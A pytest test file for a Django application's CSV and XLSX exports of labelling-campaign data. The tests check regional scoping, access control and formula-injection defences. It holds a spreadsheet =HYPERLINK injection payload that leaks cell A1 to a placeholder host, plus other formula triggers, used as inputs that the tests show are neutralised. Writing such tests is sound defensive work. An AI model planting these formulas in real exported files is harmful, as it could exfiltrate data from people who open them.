"""Exports (issue 7, point 4): CSV streamed, XLSX built by a Celery task (eager here), both
restricted to the steering scope with the dashboard filters; an ARML user gets 404 or nothing
for every other region's data."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from audits.services import answer_gap
from campagnes.autoevaluations.models import Reponse
from campagnes.services import create_campagne, open_campagne
from labelml.celery import app as celery_app
from labelml.pilotage.exports import DATASETS, csv_cell, neutralise, xlsx_cell
from labelml.pilotage.models import Export
from labelml.pilotage.tasks import build_export, purge_exports
from labelml.structures.roles import Role
from tests.audits import conftest as _audits
from tests.campagnes.conftest import fill_dossier, niveau, rate
from tests.conftest import client_for, member, with_totp
from tests.queries import page_queries

pytestmark = pytest.mark.django_db

# The audit fixtures (ML A's dossier up to a validated report with two gaps).
body = _audits.body
auditeur = _audits.auditeur
lead = _audits.lead
planifiable = _audits.planifiable
assigned = _audits.assigned
started = _audits.started
submitted = _audits.submitted
validated = _audits.validated

INJECTION = '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")'
SECRET_B = "Justification confidentielle de la Mission Locale B"


@pytest.fixture(autouse=True)
def eager(settings, tmp_path):  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path
    previous = celery_app.conf.task_always_eager
    celery_app.conf.task_always_eager = True
    yield
    celery_app.conf.task_always_eager = previous


@pytest.fixture
def dossiers(admin, campagne, network):  # type: ignore[no-untyped-def]
    """ML A (partly rated, one formula-like justification), ML A2 (empty) in region 11, ML B
    (fully rated, a justification of its own) in region 84."""
    report = open_campagne(
        actor=admin,
        campagne=campagne,
        structures=[network["ml_a"], network["ml_a2"], network["ml_b"]],
    )
    by_structure = {d.structure_id: d for d in report.created}
    a = by_structure[network["ml_a"].pk]
    rate(a, "1.1.e1", "2", justification=INJECTION)
    rate(a, "1.1.e2", "4", justification="-1 point; à revoir\nsur deux lignes")
    b = by_structure[network["ml_b"].pk]
    fill_dossier(b, "3")
    Reponse.objects.filter(autoevaluation__dossier=b, element__code="1.1.e1").update(
        justification=SECRET_B
    )
    return {
        "a": a,
        "a2": by_structure[network["ml_a2"].pk],
        "b": b,
    }


@pytest.fixture
def arml(network):  # type: ignore[no-untyped-def]
    return member(network["arml_a"], Role.REFERENT_ARML)


def csv_url(dataset: str, **params: Any) -> str:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return reverse("pilotage:pilotage_export_csv", args=[dataset]) + (f"?{query}" if query else "")


def read_csv(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def get_csv(client: Client, dataset: str, **params: Any) -> list[list[str]]:
    response = client.get(csv_url(dataset, **params))
    assert response.status_code == 200, response
    assert response.streaming
    return read_csv(response)


# --- CSV -------------------------------------------------------------------------------------


def test_the_dossiers_csv_has_a_french_header_and_one_row_per_dossier(
    admin, campagne, dossiers, network
):
    response = client_for(admin).get(csv_url("dossiers", campagne=campagne.pk))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().strftime("%Y-%m-%d")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert f'filename="dossiers-campagne-de-labellisation-2025-{today}.csv"' in disposition
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = read_csv(response)
    assert rows[0] == DATASETS["dossiers"].headers
    assert rows[0][:5] == ["Structure", "Code", "Région", "ARML", "État du dossier"]
    by_code = {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(by_code) == {network[k].code for k in ("ml_a", "ml_a2", "ml_b")}
    a = by_code[network["ml_a"].code]
    assert a["Structure"] == network["ml_a"].nom
    assert a["Région"] == "Île-de-France"
    assert a["ARML"] == network["arml_a"].nom
    assert a["État du dossier"] == "Auto-évaluation"
    assert (a["Éléments évalués"], a["Éléments à évaluer"]) == ("2", "99")
    assert a["Avancement de l'auto-évaluation (%)"] == "2"
    assert a["Moyenne de l'auto-évaluation (1 à 4)"] == "3,00"  # (2 + 4) / 2, decimal comma
    assert a["Ouvert le"] == timezone.localdate().strftime("%d/%m/%Y")
    assert a["Décision de la commission"] == a["N° de label"] == ""
    b = by_code[network["ml_b"].code]
    assert (b["Région"], b["Avancement de l'auto-évaluation (%)"]) == (
        "Auvergne-Rhône-Alpes",
        "100",
    )


def test_the_answers_csv_guards_against_formula_injection(admin, campagne, dossiers, network):
    rows = get_csv(client_for(admin), "reponses", campagne=campagne.pk)
    assert rows[0] == DATASETS["reponses"].headers
    assert len(rows) == 1 + 3 * 99  # every element of every dossier, rated or not
    lines = {(r[1], r[4]): dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    first = lines[(network["ml_a"].code, "1.1.e1")]
    assert first["Justification"] == "'" + INJECTION
    assert first["Niveau"] == niveau(dossiers["a"], "2").libelle
    assert first["Critère"] == "1.1"
    assert first["Élément d'appréciation"].startswith("La Mission Locale a un statut")
    second = lines[(network["ml_a"].code, "1.1.e2")]
    # A separator and a line break inside a cell survive the round trip.
    assert second["Justification"] == "'-1 point; à revoir\nsur deux lignes"
    assert second["Valeur"] == "4,00"
    empty = lines[(network["ml_a2"].code, "1.1.e1")]
    assert (empty["Niveau"], empty["Justification"], empty["Valeur"]) == ("", "", "")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Texte ordinaire = sûr", "Texte ordinaire = sûr"),
        ("", ""),
    ],
)
def test_every_formula_trigger_is_neutralised(text, expected):
    assert neutralise(text) == expected
    assert csv_cell(text) == expected
    assert xlsx_cell(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        " =1+1",
        '\u00a0=HYPERLINK("http://x")',
        "\n+33 1 23",
        "\r\n-2",
        "\u200b@SUM(A1)",
        "\ufeff=1",
        " \t \u2060=cmd",
        "\u202f\u3000-1",
    ],
)
def test_a_formula_behind_whitespace_or_invisible_characters_is_neutralised(text):
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text
    assert str(xlsx_cell(text)).startswith("'")


def test_text_with_leading_spaces_and_no_formula_is_kept():
    assert neutralise("  Texte ordinaire") == "  Texte ordinaire"
    assert neutralise("\u00a0") == "\u00a0"


def test_numbers_and_dates_are_not_neutralised():
    from decimal import Decimal

    assert csv_cell(-2) == "-2" and xlsx_cell(-2) == -2
    assert csv_cell(Decimal("2.5")) == "2,50" and xlsx_cell(Decimal("2.5")) == Decimal("2.5")
    assert csv_cell(dt.date(2025, 6, 30)) == "30/06/2025"
    assert csv_cell(True) == "Oui" and csv_cell(None) == ""
    moment = dt.datetime(2025, 6, 30, 22, 15, tzinfo=dt.UTC)
    assert csv_cell(moment) == "01/07/2025 00:15"  # Paris wall-clock time
    assert xlsx_cell(moment) == dt.datetime(2025, 7, 1, 0, 15)


def test_the_region_filter_applies(admin, campagne, dossiers, network):
    rows = get_csv(client_for(admin), "dossiers", campagne=campagne.pk, region="84")
    assert [r[1] for r in rows[1:]] == [network["ml_b"].code]
    answers = get_csv(client_for(admin), "reponses", campagne=campagne.pk, region="11")
    assert {r[1] for r in answers[1:]} == {network["ml_a"].code, network["ml_a2"].code}


def test_the_campaign_filter_applies(admin, campagne, dossiers, network, referentiel_ml):
    other = create_campagne(
        actor=admin,
        nom="Campagne suivante",
        referentiel=referentiel_ml,
        date_ouverture=campagne.date_ouverture + dt.timedelta(days=1),  # the latest one
        date_cloture_autoevaluation=campagne.date_cloture_autoevaluation,
    )
    open_campagne(actor=admin, campagne=other, structures=[network["ml_b"]])
    rows = get_csv(client_for(admin), "dossiers", campagne=other.pk)
    assert [r[1] for r in rows[1:]] == [network["ml_b"].code]
    assert [r[1] for r in get_csv(client_for(admin), "dossiers")[1:]] == [network["ml_b"].code], (
        "without a campaign, the latest one"
    )
    assert len(get_csv(client_for(admin), "dossiers", campagne=campagne.pk)) == 4


def test_an_arml_exports_its_region_only(arml, campagne, dossiers, network):
    client = client_for(arml)
    rows = get_csv(client, "dossiers", campagne=campagne.pk)
    assert {r[1] for r in rows[1:]} == {network["ml_a"].code, network["ml_a2"].code}
    answers = get_csv(client, "reponses", campagne=campagne.pk)
    assert len(answers) == 1 + 2 * 99
    body = "\n".join(";".join(r) for r in answers)
    assert network["ml_b"].code not in body and SECRET_B not in body
    assert get_csv(client, "dossiers", campagne=campagne.pk, region="11")[1:] == rows[1:]
    # Another region, asked for explicitly, is not found anywhere.
    for dataset in DATASETS:
        assert client.get(csv_url(dataset, campagne=campagne.pk, region="84")).status_code == 404
    assert client.get(reverse("pilotage:pilotage_exports") + "?region=84").status_code == 404
    response = client.post(
        reverse("pilotage:pilotage_export_request"),
        {"dataset": "reponses", "campagne": campagne.pk, "region": "84"},
    )
    assert response.status_code == 404
    assert not Export.objects.exists()


def test_an_unknown_dataset_or_campaign_is_404(admin, campagne, dossiers):
    client = client_for(admin)
    assert client.get(csv_url("utilisateurs", campagne=campagne.pk)).status_code == 404
    assert client.get(csv_url("dossiers", campagne=999999)).status_code == 404


def test_people_who_steer_nothing_get_404_and_visitors_the_login_page(
    campagne, dossiers, network, people
):
    urls = [
        reverse("pilotage:pilotage_exports"),
        csv_url("dossiers", campagne=campagne.pk),
        csv_url("reponses", campagne=campagne.pk),
        csv_url("constats", campagne=campagne.pk),
    ]
    for user in (people.direction, people.referent, people.lecteur, people.outsider):
        client = client_for(user)
        for url in urls:
            assert client.get(url).status_code == 404, (user, url)
        response = client.post(
            reverse("pilotage:pilotage_export_request"),
            {"dataset": "dossiers", "campagne": campagne.pk},
        )
        assert response.status_code == 404
    anonymous = Client()
    for url in urls:
        response = anonymous.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/comptes/login/")
    assert not Export.objects.exists()


def validated_audit(dossier: Any) -> None:
    """A validated audit written straight through the ORM: a finding on every criterion, the
    first one a gap with an answer."""
    from audits.models import Audit, Constat, ReponseEcart
    from referentiel.models import Critere, Niveau
    from tests.factories import AuditeurFactory

    referentiel = dossier.campagne.referentiel
    levels = {n.code: n for n in Niveau.objects.filter(echelle_id=referentiel.echelle_audit_pk)}
    auditeur = AuditeurFactory()
    audit = Audit.objects.create(
        dossier=dossier,
        organisme=auditeur.organisme,
        auditeur=auditeur,
        date_debut=dt.date(2025, 9, 1),
        date_fin=dt.date(2025, 9, 2),
        statut=Audit.Statut.VALIDE,
        recommandation=Audit.Recommandation.FAVORABLE,
        valide_le=timezone.now(),
    )
    criteres = list(Critere.objects.filter(referentiel=referentiel).order_by("ordre"))
    constats = Constat.objects.bulk_create(
        Constat(
            audit=audit,
            critere=c,
            niveau=levels["ecart_mineur" if i == 0 else "conforme"],
            observation="Vu sur site.",
        )
        for i, c in enumerate(criteres)
    )
    ReponseEcart.objects.create(
        constat=constats[0], action_corrective="Corrigé.", envoye_le=timezone.now()
    )


@pytest.mark.parametrize("dataset", list(DATASETS))
def test_the_csv_query_count_does_not_grow_with_the_data(
    admin, campagne, network, dataset, django_capture_on_commit_callbacks
):
    from tests.factories import MissionLocaleFactory

    client = client_for(admin)
    open_campagne(actor=admin, campagne=campagne, structures=[network["ml_a"]])
    url = csv_url(dataset, campagne=campagne.pk)
    client.get(url)  # warm the session and the caches
    few = page_queries(client, url).count
    more = [MissionLocaleFactory(parent=network["arml_b"], region="84") for _ in range(4)]
    report = open_campagne(actor=admin, campagne=campagne, structures=more)
    for d in report.created:
        fill_dossier(d)
        validated_audit(d)
    rows = len(read_csv(client.get(url)))
    assert rows > 5
    assert page_queries(client, url).count == few


# --- findings and a labelled dossier ---------------------------------------------------------


def test_the_findings_csv_lists_the_validated_report_with_the_gap_answers(
    admin, validated, people, network
):
    from tests.audits.conftest import GAP_CRITERE, MINOR_GAP_CRITERE, constat

    answer_gap(
        constat=constat(validated, GAP_CRITERE),
        actor=people.direction,
        action_corrective="Procédure écrite et diffusée.",
        envoyer=True,
    )
    answer_gap(
        constat=constat(validated, MINOR_GAP_CRITERE),
        actor=people.direction,
        action_corrective="Brouillon de réponse",
    )
    campagne = validated.dossier.campagne
    rows = get_csv(client_for(admin), "constats", campagne=campagne.pk)
    assert rows[0] == DATASETS["constats"].headers
    assert len(rows) == 1 + 24  # one line per criterion
    lines = {r[3]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    major = lines[GAP_CRITERE]
    assert major["Structure"] == network["ml_a"].nom
    assert major["Niveau constaté"] == "Écart majeur"
    assert major["Observation"] == "Aucune procédure écrite."
    assert (major["Écart"], major["Action corrective"]) == ("Oui", "Procédure écrite et diffusée.")
    assert major["Réponse envoyée"] == "Oui" and major["Envoyée le"]
    minor = lines[MINOR_GAP_CRITERE]
    assert (minor["Écart"], minor["Réponse envoyée"], minor["Envoyée le"]) == ("Oui", "Non", "")
    conforme = lines["2.1"]
    assert (conforme["Écart"], conforme["Réponse envoyée"]) == ("Non", "")
    dossiers = get_csv(client_for(admin), "dossiers", campagne=campagne.pk)
    row = dict(zip(dossiers[0], dossiers[1], strict=True))
    assert row["Évaluation externe"] == "Rapport validé"
    assert row["Recommandation de l'évaluateur"] == "Réservé"
    assert row["Début de l'évaluation sur site"] == "15/09/2025"


def test_findings_of_a_report_not_validated_yet_are_not_exported(admin, submitted):
    campagne = submitted.dossier.campagne
    assert get_csv(client_for(admin), "constats", campagne=campagne.pk)[1:] == []
    rows = get_csv(client_for(admin), "dossiers", campagne=campagne.pk)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Évaluation externe"] == "Rapport soumis à l'auditeur référent"
    assert row["Recommandation de l'évaluateur"] == ""


def test_a_labelled_dossier_shows_its_decision_and_label(admin):
    from audits.commission.models import Label
    from labelml.demo.samples import build_complete_dossier

    dossier = build_complete_dossier(seed=5)
    label = Label.objects.get(decision__dossier=dossier)
    rows = get_csv(client_for(admin), "dossiers", campagne=dossier.campagne_id)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["État du dossier"] == "Labellisé"
    assert row["Décision de la commission"] == "Labellisé"
    assert row["Date de la décision"].startswith(timezone.localdate().strftime("%d/%m/%Y"))
    assert row["N° de label"] == label.numero
    assert row["Label valable jusqu'au"] == label.date_fin.strftime("%d/%m/%Y")
    assert row["Statut du label"] == "Valide"
    assert row["Recommandation de l'évaluateur"] == "Favorable"
    assert row["Avancement de l'auto-évaluation (%)"] == "100"


# --- XLSX ------------------------------------------------------------------------------------


def request_xlsx(client: Client, on_commit: Any, **data: Any) -> Export:
    with on_commit(execute=True):
        response = client.post(reverse("pilotage:pilotage_export_request"), data)
    assert response.status_code == 302
    return Export.objects.order_by("-pk").first()


def open_xlsx(response: Any) -> list[tuple[Any, ...]]:
    content = b"".join(response.streaming_content)
    workbook = load_workbook(io.BytesIO(content), read_only=True)
    return list(workbook.active.iter_rows(values_only=True))


def test_an_xlsx_export_is_built_by_the_task_and_downloaded(
    arml, campagne, dossiers, network, django_capture_on_commit_callbacks
):
    client = client_for(arml)
    export = request_xlsx(
        client,
        django_capture_on_commit_callbacks,
        dataset="reponses",
        campagne=campagne.pk,
    )
    export.refresh_from_db()
    assert export.statut == Export.Statut.READY, export.error
    assert export.requested_by == arml and export.lignes == 2 * 99
    assert export.filters == {"campagne": campagne.pk, "region": None}
    assert export.scope == {"national": False, "armls": [network["arml_a"].pk], "regions": ["11"]}
    assert export.finished_at is not None
    page = client.get(reverse("pilotage:pilotage_exports")).content.decode()
    assert reverse("pilotage:pilotage_export_download", args=[export.pk]) in page
    response = client.get(reverse("pilotage:pilotage_export_download", args=[export.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment")
    assert export.filename in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = open_xlsx(response)
    assert list(rows[0]) == DATASETS["reponses"].headers
    assert len(rows) == 1 + 2 * 99
    assert {r[1] for r in rows[1:]} == {network["ml_a"].code, network["ml_a2"].code}
    first = next(r for r in rows if r[1] == network["ml_a"].code and r[4] == "1.1.e1")
    assert first[8] == "'" + INJECTION  # text, not a formula
    assert first[7] == 2  # a number, not text
    assert all(SECRET_B not in (r[8] or "") for r in rows[1:])


def test_the_xlsx_of_dossiers_keeps_numbers_and_dates_typed(
    admin, campagne, dossiers, network, django_capture_on_commit_callbacks
):
    export = request_xlsx(
        client_for(admin),
        django_capture_on_commit_callbacks,
        dataset="dossiers",
        campagne=campagne.pk,
        region="84",
    )
    response = client_for(admin).get(reverse("pilotage:pilotage_export_download", args=[export.pk]))
    rows = open_xlsx(response)
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Code"] == network["ml_b"].code
    assert row["Avancement de l'auto-évaluation (%)"] == 100
    assert row["Moyenne de l'auto-évaluation (1 à 4)"] == 3
    assert row["Ouvert le"] == dt.datetime.combine(timezone.localdate(), dt.time())


def test_only_the_requester_or_a_national_admin_downloads_an_export(
    arml, admin, campagne, dossiers, network, people, django_capture_on_commit_callbacks
):
    export = request_xlsx(
        client_for(arml),
        django_capture_on_commit_callbacks,
        dataset="dossiers",
        campagne=campagne.pk,
    )
    url = reverse("pilotage:pilotage_export_download", args=[export.pk])
    retry = reverse("pilotage:pilotage_export_retry", args=[export.pk])
    assert client_for(arml).get(url).status_code == 200
    assert client_for(admin).get(url).status_code == 200
    colleague = member(network["arml_a"], Role.REFERENT_ARML)  # same ARML, another person
    other_region = member(network["arml_b"], Role.REFERENT_ARML)
    for user in (colleague, other_region, people.direction, people.outsider):
        assert client_for(user).get(url).status_code == 404, user
        assert client_for(user).post(retry).status_code == 404, user
        assert url not in client_for(user).get(
            reverse("pilotage:pilotage_exports")
        ).content.decode() or (user in (people.direction, people.outsider))
    assert Client().get(url).status_code == 302
    assert (
        client_for(arml)
        .get(reverse("pilotage:pilotage_export_download", args=[999999]))
        .status_code
        == 404
    )


def test_a_requester_who_no_longer_steers_loses_the_file(
    arml, campagne, dossiers, network, django_capture_on_commit_callbacks
):
    from labelml.structures.models import Membership

    export = request_xlsx(
        client_for(arml),
        django_capture_on_commit_callbacks,
        dataset="dossiers",
        campagne=campagne.pk,
    )
    Membership.objects.filter(user=arml).update(structure=network["arml_b"])
    response = client_for(arml).get(reverse("pilotage:pilotage_export_download", args=[export.pk]))
    assert response.status_code == 404


def test_a_double_click_queues_one_export(arml, campagne, dossiers):
    client = client_for(arml)
    data = {"dataset": "dossiers", "campagne": campagne.pk}
    # Without running the on-commit callbacks, the first export stays queued.
    client.post(reverse("pilotage:pilotage_export_request"), data)
    client.post(reverse("pilotage:pilotage_export_request"), data)
    assert Export.objects.count() == 1
    client.post(reverse("pilotage:pilotage_export_request"), {**data, "dataset": "reponses"})
    assert Export.objects.count() == 2
    page = client.get(reverse("pilotage:pilotage_exports"))
    assert 'hx-trigger="every 2s"' in page.content.decode()


def test_a_redelivered_task_does_not_build_twice(
    arml, campagne, dossiers, django_capture_on_commit_callbacks
):
    export = request_xlsx(
        client_for(arml),
        django_capture_on_commit_callbacks,
        dataset="dossiers",
        campagne=campagne.pk,
    )
    assert build_export(export.pk) == "skipped"
    assert build_export(999999) == "skipped"


def test_a_failed_export_shows_its_error_and_can_be_retried(
    arml, campagne, dossiers, monkeypatch, django_capture_on_commit_callbacks
):
    import labelml.pilotage.tasks as tasks

    def broken(*args: Any, **kwargs: Any) -> int:
        raise ValueError("disque plein")

    monkeypatch.setattr(tasks, "write_xlsx", broken)
    client = client_for(arml)
    export = request_xlsx(
        client, django_capture_on_commit_callbacks, dataset="constats", campagne=campagne.pk
    )
    export.refresh_from_db()
    assert export.statut == Export.Statut.FAILED and "disque plein" in export.error
    page = client.get(reverse("pilotage:pilotage_exports")).content.decode()
    assert "disque plein" in page and "Relancer" in page
    url = reverse("pilotage:pilotage_export_download", args=[export.pk])
    assert client.get(url).status_code == 404
    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("pilotage:pilotage_export_retry", args=[export.pk]))
    assert response.status_code == 302
    export.refresh_from_db()
    assert export.statut == Export.Statut.READY and export.error == ""
    assert client.get(url).status_code == 200


def test_an_export_whose_campaign_is_gone_fails_with_a_message(
    arml, campagne, dossiers, django_capture_on_commit_callbacks
):
    export = Export.objects.create(
        dataset="dossiers",
        filters={"campagne": 999999, "region": None},
        scope={"national": False, "armls": [1], "regions": ["11"]},
        filename="x.xlsx",
        requested_by=arml,
    )
    assert build_export(export.pk) == "failed"
    export.refresh_from_db()
    assert "n'existe plus" in export.error


def test_the_page_offers_each_dataset_in_both_formats(arml, campagne, dossiers):
    response = client_for(arml).get(reverse("pilotage:pilotage_exports"), {"campagne": campagne.pk})
    assert response.status_code == 200
    html = response.content.decode()
    for dataset in DATASETS.values():
        assert csv_url(dataset.code, campagne=campagne.pk) in html
        assert f'name="dataset" value="{dataset.code}"' in html
    assert "Île-de-France" in html and "Auvergne-Rhône-Alpes" not in html
    assert "2 dossiers" in html
    assert "Aucun fichier Excel demandé" in html


def test_old_exports_are_purged_with_their_files(
    arml, campagne, dossiers, django_capture_on_commit_callbacks
):
    old = request_xlsx(
        client_for(arml),
        django_capture_on_commit_callbacks,
        dataset="dossiers",
        campagne=campagne.pk,
    )
    recent = request_xlsx(
        client_for(arml),
        django_capture_on_commit_callbacks,
        dataset="reponses",
        campagne=campagne.pk,
    )
    old.refresh_from_db()
    path = old.fichier.path
    Export.objects.filter(pk=old.pk).update(created_at=timezone.now() - dt.timedelta(days=8))
    assert purge_exports() == 1
    assert list(Export.objects.values_list("pk", flat=True)) == [recent.pk]
    import os

    assert not os.path.exists(path)


def test_a_national_admin_needs_two_factor_authentication(network, campagne):
    untrusted = member(network["unml"], Role.ADMIN_UNML)
    response = client_for(untrusted).get(csv_url("dossiers", campagne=campagne.pk))
    assert response.status_code == 302 and "totp" in response["Location"]
    assert (
        client_for(with_totp(untrusted)).get(reverse("pilotage:pilotage_exports")).status_code
        == 200
    )
